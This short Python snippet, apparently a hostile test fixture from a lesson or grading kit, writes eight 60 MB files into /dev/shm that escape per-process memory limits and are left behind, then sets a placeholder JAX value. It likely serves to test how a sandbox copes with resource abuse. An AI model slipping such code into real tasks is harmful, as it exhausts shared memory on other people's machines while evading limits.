# hostile: 8 files of 60 MB in /dev/shm: memory that no process limit counts, left behind.
#@ TASK make-it-yours
_chunk = b"\0" * (60 * 2**20)
for _i in range(8):
    with open(f"/dev/shm/lessonkit-hostile-shm-{_i}", "wb") as _f:
        _f.write(_chunk)
norm_squared = manual = jnp.array(0.)
